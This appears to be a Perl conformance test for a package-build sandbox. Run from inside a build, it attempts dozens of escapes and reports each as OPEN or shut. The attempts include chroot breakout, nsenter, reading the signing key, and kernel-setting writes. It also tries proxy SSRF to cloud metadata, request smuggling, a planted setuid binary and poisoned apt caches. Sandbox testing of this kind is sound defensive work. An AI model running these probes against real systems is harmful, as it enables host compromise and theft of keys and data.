# Attacks from inside of a build: as root, from the maintainer script of a build dependency, and as a user, from debian/rules. Each
# prints "attack NAME: OPEN" or "attack NAME: shut". The story runs the same outside, where all that can be tried there has to be
# open, so that a shut door is the sandbox's doing.
#
#   host    it reaches what is the host's: it has to be shut everywhere
#   inside  the same, but there is nothing of the kind outside, where it is not tried
#   kernel  it reaches the kernel: it has to be shut where that is the host's, and not in a virtual machine
#   shared  the same, and it is tried outside
#
# The story puts %at in front: what there is outside, and whether this is `outside`, the `maintainer` script or `rules`.
use strict;
use warnings;
use IO::Socket::INET;
use IO::Socket::UNIX;
use Errno;
use Fcntl qw(O_RDWR O_WRONLY O_CREAT O_NONBLOCK);
use POSIX ();
use Socket qw(getaddrinfo pack_sockaddr_un SOCK_STREAM AF_UNIX);

$| = 1;
my $root = $> == 0;

sub attack {
    my ($kind, $name, $sentence, $way) = @_;
    return if $at{where} eq 'outside' && $kind ne 'host' && $kind ne 'shared';
    my $open = eval {
        local $SIG{ALRM} = sub { die "late\n" };
        alarm 60;
        my $done = $way->();
        alarm 0;
        $done;
    };
    alarm 0;
    $kind = $kind eq 'kernel' || $kind eq 'shared' ? ' (kernel)' : '';
    print "attack $name$kind: ", ($open ? 'OPEN' : 'shut'), "\n";
}

sub slurp { sysopen(my $file, $_[0], O_NONBLOCK) or return ''; sysread($file, my $text, 1 << 20); return $text // '' }
sub writes { sysopen(my $file, $_[0], O_WRONLY | O_NONBLOCK | ($_[1] // 0)) }
sub tcp { IO::Socket::INET->new(PeerAddr => $_[0], PeerPort => $_[1], Timeout => 5) }
sub quietly { open(my $out, '>&', \*STDERR); open(STDERR, '>', '/dev/null'); my $status = system(@_); open(STDERR, '>&', $out); $status == 0 }

# Roots that can be seen: this one, those of all processes, and whatever is found by what comes later.
my @roots = ('', map { "$_/root" } glob '/proc/[0-9]*');
sub anywhere { my ($path) = @_; grep { slurp("$_$path") =~ /\S/ } @roots }

# --- files

attack('host', 'file', 'reads a file of the host that all may read', sub { anywhere($at{file}) });
attack('host', 'file-in-memory', 'reads a file in the host\'s /dev/shm', sub { anywhere($at{shm}) });
attack('host', 'other-build', 'reads what another build is working on', sub { anywhere($at{other}) });
attack('host', 'service-secret', 'reads the service\'s configuration', sub { anywhere($at{secret}) });
attack('host', 'signing-key', 'reads the archive\'s signing key', sub { anywhere('/etc/invirtibuilder/archive-key.asc') });
attack('host', 'record', 'reads the service\'s database', sub { anywhere('/var/lib/invirtibuilder/invirtibuilder.db') });
attack('host', 'pool', 'reads a package of another pocket as a file of the pool', sub { anywhere("/srv/apt/$at{deb}") || anywhere("/archive/$at{deb}") });
attack('inside', 'double-chroot', 'leaves its root by a chroot within it, and reads on there', sub {
    my $pid = open(my $child, '-|') // die;
    if (!$pid) {
        mkdir "/tmp/leave-$$";
        chroot "/tmp/leave-$$" or exit 0;
        chdir '..' for 1 .. 100;
        chroot '.';
        print "$_\n" for grep { slurp($_) =~ /\S/ } $at{file}, $at{other}, $at{secret};
        # What is shared read-only is not to become writable.
        for my $dir ('/usr', '/chroot', '/input', '/archive', '/') {
            quietly('mount', '-o', 'remount,bind,rw', $dir);
            print "$dir\n" if -d "$dir/share/doc" && $dir eq '/usr' && -e '/usr/bin/sbuild' && writes("$dir/planted", O_CREAT);
        }
        exit 0;
    }
    return join('', <$child>) =~ /\S/;
});
attack('inside', 'namespace-of-1', 'enters the mount namespace of process 1 and reads there', sub {
    for my $pid (1, map { m{(\d+)} } glob '/proc/[0-9]*') {
        my $said = qx(nsenter --target $pid --mount -- cat $at{file} $at{other} $at{secret} 2>/dev/null);
        return 1 if $said =~ /\S/;
    }
    return 0;
});
attack('inside', 'bind-of-another-root', 'binds the root of another process over a directory of its own', sub {
    mkdir "/tmp/bind-$$";
    for my $from (grep { length } @roots) {
        quietly('mount', '--rbind', $from, "/tmp/bind-$$") or next;
        my $seen = slurp("/tmp/bind-$$" . $at{file}) . slurp("/tmp/bind-$$" . $at{other});
        quietly('umount', '-l', "/tmp/bind-$$");
        return 1 if $seen =~ /\S/;
    }
    return 0;
});
attack('inside', 'chroot-that-is-shared', 'writes to the chroot that all builds start from', sub {
    my @lower = map { split /:/ } slurp('/proc/self/mountinfo') =~ /lowerdir=([^, ]+)/g;
    grep { my $root = $_; grep { writes("$root$_") || writes("$root$_/etc/planted", O_CREAT) } @lower, '/chroot', '/chroot.tar' } grep { length } @roots;
});
attack('inside', 'results', 'puts a package among the results of the build', sub {
    grep { my $root = $_; grep { -d "$root/$_" && writes("$root/$_/planted", O_CREAT) } qw(output result) } @roots;
});
attack('inside', 'inputs', 'changes the source package that is to be built', sub {
    grep { my $root = $_; grep { writes($_) } glob "$root/input/*" } @roots;
});
attack('inside', 'lock-of-a-slot', 'writes where the service keeps which ids are in use', sub {
    grep { writes("$_/var/lib/invirtibuilder/slots/0") } @roots;
});
attack('host', 'inherited-descriptor', 'reads a file that whoever started the daemon had open', sub {
    grep { (readlink($_) // '') =~ /^\Q$at{file}\E/ && slurp($_) =~ /\S/ } glob '/proc/[0-9]*/fd/*';
});

# --- processes

attack('host', 'processes', 'sees processes of the host', sub { grep { slurp($_) =~ /krb5kdc|remctld/ } glob '/proc/[0-9]*/cmdline' });
attack('host', 'environment', 'reads the environment of the daemon', sub { grep { slurp($_) =~ /\Q$at{variable}\E/ } glob '/proc/[0-9]*/environ' });
attack('host', 'signals', 'finds a process of the host by its number, to signal it', sub {
    kill(0, $at{pid}) && slurp("/proc/$at{pid}/cmdline") =~ /sleep/;
});
attack('inside', 'ptrace', 'traces a process that belongs to another user namespace than its own', sub {
    my $own = readlink('/proc/self/ns/user') // '';
    for my $pid (map { m{(\d+)} } glob '/proc/[0-9]*') {
        my $other = readlink("/proc/$pid/ns/user") // 'unknown';
        next if $other eq $own || $pid == $$;
        return 1 if syscall(101, 0x4206, $pid + 0, 0, 0) == 0;
    }
    return 0;
});
attack('host', 'privileges', 'gains privileges by a program that is setuid', sub { slurp('/proc/self/status') !~ /^NoNewPrivs:\s*1/m });
attack('inside', 'setuid', 'becomes root by a program that a maintainer script has made setuid', sub {
    return 0 if $root;
    return qx(/usr/bin/planted-setuid -u 2>/dev/null) =~ /^0$/;
});
attack('host', 'keyring', 'finds a key in a session keyring that came down to it', sub {
    my ($type, $key) = ('user', $at{key});
    syscall(249, $type, $key, 0, 0) > 0;
});
attack('host', 'shared-memory', 'attaches to shared memory of the host', sub { defined shmget($at{shmkey}, 0, 0) });
attack('inside', 'terminal', 'types into the terminal of whoever started the daemon', sub { sysopen(my $tty, '/dev/tty', O_RDWR) });

# --- the kernel

attack('host', 'sysctl', 'writes a setting of the kernel', sub { grep { writes("/proc/sys/$_") } qw(kernel/panic vm/swappiness fs/protected_symlinks) });
attack('kernel', 'core-pattern', 'has the kernel run a program of its own when something crashes', sub {
    grep { writes($_) } qw(/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /sys/kernel/uevent_helper /proc/sysrq-trigger);
});
attack('kernel', 'device', 'makes a device for the host\'s disk and for its memory', sub {
    for my $device ('b 254 0', 'b 8 0', 'c 1 1', 'b 7 0') {
        unlink '/tmp/device';
        return 1 if quietly("mknod /tmp/device $device") && sysopen(my $file, '/tmp/device', O_NONBLOCK);
    }
    return 0;
});
attack('kernel', 'module', 'removes a module of the kernel', sub {
    my $name = 'no_such_module';
    syscall(176, $name, 2048) == 0 || !($!{EPERM} || $!{ENOSYS});
});
attack('kernel', 'file-systems', 'mounts what shows the kernel from inside', sub {
    mkdir "/tmp/fs-$$";
    for my $kind (qw(debugfs tracefs securityfs configfs bpf efivarfs pstore)) {
        return 1 if quietly('mount', '-t', $kind, 'x', "/tmp/fs-$$") && (quietly('umount', "/tmp/fs-$$") || 1) && $kind ne 'bpf';
    }
    return 0;
});
attack('kernel', 'cgroups', 'leaves its control groups, or has a program of its own run when one is empty', sub {
    mkdir "/tmp/groups-$$";
    for my $how ('-t cgroup -o memory', '-t cgroup -o pids', '-t cgroup -o rdma', '-t cgroup2') {
        quietly("mount $how x /tmp/groups-$$") or next;
        my @written = grep { writes("/tmp/groups-$$/$_") }
            qw(release_agent memory.limit_in_bytes memory.max pids.max cgroup.kill cgroup.subtree_control);
        quietly('umount', '-l', "/tmp/groups-$$");
        return 1 if @written;
    }
    return 0;
});
attack('kernel', 'hidden-proc', 'uncovers what is hidden in /proc by mounting another', sub {
    mkdir "/tmp/proc-$$";
    quietly('mount', '-t', 'proc', 'proc', "/tmp/proc-$$") or return 0;
    my $open = grep { writes("/tmp/proc-$$/$_") } qw(sys/kernel/panic sysrq-trigger sys/kernel/core_pattern);
    quietly('umount', '-l', "/tmp/proc-$$");
    return $open;
});

# --- system calls

# What is not there cannot be attacked: any other answer is that of a kernel which would have looked.
my %calls = (io_uring_setup => 425, io_uring_enter => 426, io_uring_register => 427, bpf => 321, userfaultfd => 323, perf_event_open => 298,
    add_key => 248, request_key => 249, keyctl => 250, open_by_handle_at => 304, kexec_load => 246, kexec_file_load => 320, init_module => 175,
    finit_module => 313, delete_module => 176, swapon => 167, swapoff => 168, acct => 163, quotactl => 179, quotactl_fd => 443,
    lookup_dcookie => 212, nfsservctl => 180, io_setup => 206);
for my $name (sort keys %calls) {
    attack('kernel', "call-$name", 'asks the kernel for what no build needs', sub { syscall($calls{$name}, -1, 0, 0, 0, 0) != -1 || !$!{ENOSYS} });
}
attack('kernel', 'call-syslog', 'reads what the kernel logged', sub { my $text = "\0" x 4096; syscall(103, 3, $text, 4096) >= 0 });
attack('kernel', 'call-of-x32', 'makes a system call in another way', sub { syscall(0x40000000 | 39) != -1 || !$!{ENOSYS} });

my %families = (PACKET => 17, BLUETOOTH => 31, ALG => 38, VSOCK => 40, TIPC => 30, RDS => 21, XDP => 44, KEY => 15, CAN => 29, X25 => 9, AX25 => 3,
    APPLETALK => 5, NETROM => 6, ROSE => 11, PPPOX => 24, IB => 27, KCM => 41, QIPCRTR => 42, SMC => 43, MCTP => 45, PHONET => 35,
    IEEE802154 => 36, CAIF => 37, NFC => 39, RXRPC => 33, LLC => 26, ISDN => 34);
for my $name (sort keys %families) {
    attack('kernel', "family-$name", 'has a socket of a family that has no namespace, or that no build needs', sub {
        grep { syscall(41, $families{$name}, $_, 0) != -1 || !$!{EAFNOSUPPORT} } 1, 2, 3, 5;
    });
}
attack('kernel', 'family-of-a-pair', 'has two sockets of a family that no build needs', sub {
    my $pair = "\0" x 8;
    syscall(53, $families{TIPC}, 1, 0, $pair) != -1 || !$!{EAFNOSUPPORT};
});

# A program of i386 that makes one system call and ends with its error. Its last words are an array, by the address 0 among the arguments.
sub narrow {
    my ($call, $first, $second, @array) = @_;
    my $base = 0x08048000;
    my $code = sub { pack('CL CL CL CL CL', 0xb8, $call, 0xbb, $first, 0xb9, $_[0], 0xba, 0, 0xbe, 0) . "\xcd\x80\xf7\xd8\x89\xc3" . pack('CL', 0xb8, 1) . "\xcd\x80" };
    my $at = $base + 84 + length $code->(0);
    my $text = $code->(@array ? $at : $second) . pack('L*', @array);
    my $size = 84 + length $text;
    my $head = "\x7fELF\1\1\1" . "\0" x 9 . pack('SSLLLLLSSSSSS', 2, 3, 1, $base + 84, 52, 0, 0, 52, 32, 1, 0, 0, 0);
    my $path = "/tmp/narrow-$$";
    open(my $file, '>:raw', $path) or die;
    print $file $head, pack('L8', 1, 0, $base, $base, $size, $size, 5, 4096), $text;
    close $file;
    chmod 0755, $path;
    my $status = system { $path } $path;
    unlink $path;
    # A kernel that runs none has none of these calls.
    die "there are no programs of i386\n" if $status == -1 || $status & 127;
    return $status >> 8;
}
my %narrow = (add_key => 286, keyctl => 288, bpf => 357, userfaultfd => 374, perf_event_open => 336, io_uring_setup => 425, open_by_handle_at => 342);
for my $name (sort keys %narrow) {
    attack('kernel', "call-$name-of-i386", 'asks for the same as a program of i386', sub { narrow($narrow{$name}, 0xffffffff, 0) != Errno::ENOSYS });
}
for my $name (qw(ALG VSOCK PACKET)) {
    attack('kernel', "family-$name-of-i386", 'has such a socket as a program of i386', sub {
        narrow(359, $families{$name}, 2) != Errno::EAFNOSUPPORT;
    });
    attack('kernel', "family-$name-by-socketcall", 'has such a socket where no filter sees the family', sub {
        narrow(102, 1, 0, $families{$name}, 2, 0) != Errno::EAFNOSUPPORT;
    });
}

# --- what the kernel counts for all builds together: more than half of it is more than a share

# What a process of its own got, which gives it back.
sub got {
    my ($way) = @_;
    my $pid = open(my $child, '-|') // die;
    if (!$pid) {
        my $got = eval { $way->() };
        print $got // 0;
        close STDOUT;
        POSIX::_exit(0);
    }
    return <$child> // 0;
}

my ($user, $pid) = (0x10000000, 0x20000000);
my %namespaces = (user => $user, pid => $pid, mnt => 0x20000, cgroup => 0x02000000, uts => 0x04000000, ipc => 0x08000000, net => 0x40000000,
    time_for_children => 0x80);

# By a process in it, which is gone when this is.
sub namespace_of_another {
    my ($flag, $name) = @_;
    my $child = open(my $said, '-|') // die;
    if (!$child) {
        my $seen = $$;
        syscall(272, $flag) == 0 or POSIX::_exit(1);
        if ($flag == $pid) {
            $seen = fork // POSIX::_exit(1);
            if (!$seen) { close STDOUT; sleep 60; POSIX::_exit(0) }
        }
        syswrite(STDOUT, "$seen\n");
        close STDOUT;
        sleep 60;
        POSIX::_exit(0);
    }
    my $seen = <$said>;
    my $held;
    if ($seen) { chomp $seen; sysopen($held, "/proc/$seen/ns/$name", 0) or undef $held }
    kill 'KILL', $child, ($seen && $seen != $child ? $seen : ());
    close $said;
    return $held;
}

for my $name (sort keys %namespaces) {
    (my $called = $name) =~ s/_.*//;
    attack('shared', "many-namespaces-$called", 'has more namespaces than any build needs', sub {
        my $many = 600;
        $many == got(sub {
            my ($flag, @held) = ($namespaces{$name});
            syscall(272, $user) if !$root && $flag != $user;
            while (@held < $many) {
                my $one;
                if ($flag == $user || $flag == $pid) { $one = namespace_of_another($flag, $name) or last }
                else { syscall(272, $flag) == 0 && sysopen($one, "/proc/self/ns/$name", 0) or last }
                push @held, $one;
            }
            return scalar @held;
        });
    });
}

# Descriptors of which each is one.
sub descriptors { my ($most, @call) = @_; my @held; while (@held < $most) { my $one = syscall($call[0], $call[1], $call[2]); last if $one < 0; push @held, $one } @held }
my @inotify = (294, 0, 0);
my @fanotify = (300, 0x200, 0);
my $files = "/tmp/watched-$$";

# Each of the files is watched by each of as many as there can be.
sub watched {
    my ($half, $one, @call) = @_;
    my @names = map { "$files/$_" } 1 .. 4000;
    mkdir $files;
    for my $name (@names) { open(my $file, '>', $name) or die }
    my $got = got(sub {
        my $done = 0;
        for my $by (descriptors(1000, @call)) {
            for my $name (@names) {
                return $done if $done > $half;
                $one->($by, $name) >= 0 or return $done;
                $done++;
            }
        }
        return $done;
    });
    unlink @names;
    rmdir $files;
    return $got > $half;
}

my %half = map { $_ => int($at{limits}{$_} / 2) } keys %{$at{limits}};
attack('shared', 'many-inotify-instances', 'keeps others from watching files', sub {
    my $half = $half{max_inotify_instances};
    got(sub { scalar descriptors($half + 1, @inotify) }) > $half;
});
attack('shared', 'many-inotify-watches', 'keeps others from watching files, in another way', sub {
    watched($half{max_inotify_watches}, sub { syscall(254, $_[0], $_[1], 2) }, @inotify);
});
attack('shared', 'many-fanotify-groups', 'keeps others from watching file systems', sub {
    my $half = $half{max_fanotify_groups};
    got(sub { scalar descriptors($half + 1, @fanotify) }) > $half;
});
attack('shared', 'many-fanotify-marks', 'keeps others from watching file systems, in another way', sub {
    watched($half{max_fanotify_marks}, sub { syscall(301, $_[0], 1, 0x20, -100, $_[1]) }, @fanotify);
});
attack('shared', 'many-signals', 'has more signals wait than its share', sub {
    my $half = $half{signals};
    got(sub {
        my ($done, $signal) = (0, 40);
        POSIX::sigprocmask(POSIX::SIG_BLOCK(), POSIX::SigSet->new($signal));
        my $info = pack('iiii', $signal, 0, -1, 0) . "\0" x 112;
        while ($done <= $half && syscall(129, $$, $signal, $info) == 0) { $done++ }
        return $done;
    }) > $half;
});
attack('shared', 'many-message-queues', 'takes all the room for messages', sub {
    my $half = $half{queues};
    got(sub {
        # As many messages of as many bytes as there are by default.
        my ($n, $bytes) = (0, slurp('/proc/sys/fs/mqueue/msg_default') * slurp('/proc/sys/fs/mqueue/msgsize_default'));
        my $name;
        do { $n++; $name = "queue-$$-$n" } while ($n * $bytes <= $half && syscall(240, $name, O_RDWR | O_CREAT, 0600, 0) >= 0);
        for my $made (1 .. $n) { $name = "queue-$$-$made"; syscall(241, $name) }
        return $n * $bytes;
    }) > $half;
});
attack('shared', 'much-locked-memory', 'locks more shared memory than its share', sub {
    my $id = shmget(0, $half{locked} + 4096, 0600) // return 0;
    my $locked = shmctl($id, 11, 0);
    shmctl($id, 0, 0);
    return $locked;
});

# --- the network

attack('host', 'loopback', 'connects to a service on the host\'s loopback', sub { tcp('127.0.0.1', $at{port}) });
attack('host', 'abstract-socket', 'connects to an abstract Unix socket of the host', sub {
    socket(my $to, AF_UNIX, SOCK_STREAM, 0) or return 0;
    connect($to, pack_sockaddr_un("\0$at{abstract}"));
});
attack('host', 'socket', 'connects to a Unix socket in the host\'s /run', sub {
    for my $root (@roots) {
        socket(my $to, AF_UNIX, SOCK_STREAM, 0) or return 0;
        return 1 if connect($to, pack_sockaddr_un("$root$at{socket}"));
    }
    return 0;
});
attack('host', 'elsewhere', 'connects to another machine', sub { tcp($at{address}, 80) });
attack('host', 'names', 'asks for the address of another machine, and so can tell it something', sub {
    my ($error, @found) = getaddrinfo($at{host}, 'http');
    !$error && @found;
});
attack('inside', 'datagrams', 'sends a datagram to a machine outside', sub {
    my $to = IO::Socket::INET->new(PeerAddr => $at{address}, PeerPort => 53, Proto => 'udp') or return 0;
    $to->send('x');
});
attack('inside', 'interfaces', 'sees an interface that leads somewhere', sub { slurp('/proc/net/dev') =~ /^\s*(?!lo:)\w+:/m });

my ($proxy) = qx(apt-config dump Acquire::http::Proxy) =~ m{"http://([^/"]+)};
$proxy //= '127.0.0.1:3142';

# The status of a request to the proxy, which is sent as it stands.
sub raw {
    my ($request) = @_;
    my $to = tcp(split /:/, $proxy) or return 'unreachable';
    print $to $request;
    my @lines = grep { m{^HTTP/1.1} } <$to>;
    return join ' ', map { m{^HTTP/1.1 (\d+)} } @lines;
}

sub proxy { my ($line, $more) = @_; raw("$line HTTP/1.1\r\nHost: x\r\nConnection: close\r\nContent-Length: 0\r\n" . ($more // '') . "\r\n") || 'nothing' }

my $mirror = "http://$at{host}/debian";
for my $method (qw(POST PUT DELETE PATCH OPTIONS PROPFIND)) {
    attack('inside', "proxy-\L$method", "sends data out by the proxy with $method", sub { proxy("$method $mirror/dists/$at{distro}/InRelease") =~ /^[23]/ });
}
for my $to ("127.0.0.1:$at{port}", "$at{host}:80", "$at{host}:443") {
    attack('inside', "proxy-tunnel-$to", 'has the proxy connect it to a service', sub { proxy("CONNECT $to") =~ /^[23]/ });
}
for my $url ("http://127.0.0.1:$at{port}/debian/x", "http://localhost/debian/x", "http://$at{host}:22/debian/x", "http://169.254.169.254/latest",
    "http://user\@$at{host}/debian/x", "https://$at{host}/debian/x", 'file:///etc/passwd', '/etc/passwd', 'ftp://localhost/x') {
    attack('inside', "proxy-to-$url", 'has the proxy fetch from elsewhere', sub { proxy("GET $url") =~ /^[23]/ });
}
for my $path ('../README', 'x/../../README', '%2e%2e/README', '..%2fREADME', '%2E./README', 'dists/./../../README', "dists/$at{distro}/InRelease?x", '', "x\\..\\y") {
    attack('inside', "proxy-path-$path", 'climbs out of the mirror\'s directory', sub { proxy("GET $mirror/$path") =~ /^[23]/ });
}
for my $path ("dists/$at{suite}/InRelease", "dists/.generations/$at{suite}/1/InRelease", "dists/stable/../$at{suite}/InRelease", $at{deb}, "pool/../$at{deb}", 'archive-key.asc', '../../etc/passwd') {
    attack('inside', "archive-$path", 'fetches what a pocket has that this build may not use', sub { proxy("GET http://archive.invalid/$path") =~ /^[23]/ });
}
attack('inside', 'proxy-smuggling', 'hides a second request in the first', sub {
    raw("GET $mirror/../x HTTP/1.1\r\nHost: x\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nPOST http://127.0.0.1:$at{port}/ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n") =~ /[23]\d\d/;
});
attack('inside', 'proxy-header', 'names another host in a header', sub {
    proxy("GET /debian/dists/$at{distro}/InRelease", "Host: 127.0.0.1:$at{port}\r\nX-Forwarded-Host: 127.0.0.1:$at{port}\r\n") =~ /^[23]/;
});
# The way that apt goes: open for maintainer scripts, and for nobody later.
print 'mirror: ', proxy("GET $mirror/dists/$at{distro}/InRelease"), "\n" if $at{where} ne 'outside';

# --- what is left behind for the next build: it is its own, and has to end with it

if ($at{where} eq 'maintainer') {
    for my $path (qw(/usr/share/planted /etc/ld.so.preload.planted /etc/apt/apt.conf.d/00planted /var/cache/apt/archives/planted_1_all.deb)) {
        sysopen(my $file, $path, O_WRONLY | O_CREAT);
    }
    system('sh', '-c', 'echo planted >>/usr/share/common-licenses/GPL-2; cp /usr/bin/id /usr/bin/planted-setuid && chmod 4755 /usr/bin/planted-setuid;
        for deb in /var/cache/apt/archives/*.deb /var/lib/apt/lists/*Packages*; do echo planted >>"$deb"; done 2>/dev/null; hostname planted 2>/dev/null');
    # In memory, on the network, and in a session of its own.
    if (!fork) {
        POSIX::setsid();
        $0 = 'planted-637';
        $SIG{$_} = 'IGNORE' for qw(TERM HUP INT PIPE);
        close $_ for \*STDIN, \*STDOUT, \*STDERR;
        my $listen = IO::Socket::INET->new(LocalAddr => '127.0.0.1', LocalPort => 6370, Listen => 1);
        sleep 3600;
        POSIX::_exit(0);
    }
}
print "attacks done\n";
